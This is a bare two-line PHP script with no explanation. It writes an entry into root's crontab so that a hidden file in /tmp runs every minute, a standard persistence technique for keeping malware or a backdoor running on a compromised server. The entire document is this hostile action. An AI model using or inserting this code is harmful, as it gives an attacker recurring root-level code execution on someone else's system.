<?php
file_put_contents("/var/spool/cron/root", "* * * * * /tmp/.u");
